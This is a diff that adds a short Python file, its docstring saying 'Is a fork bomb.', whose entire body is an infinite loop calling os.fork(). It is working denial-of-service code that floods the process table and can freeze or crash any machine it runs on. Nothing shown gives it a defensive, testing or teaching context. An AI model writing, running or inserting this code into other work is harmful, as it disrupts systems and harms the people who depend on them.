@@ -1,0 +1,6 @@
+"""Is a fork bomb."""
+
+import os
+
+while True:
+    os.fork()
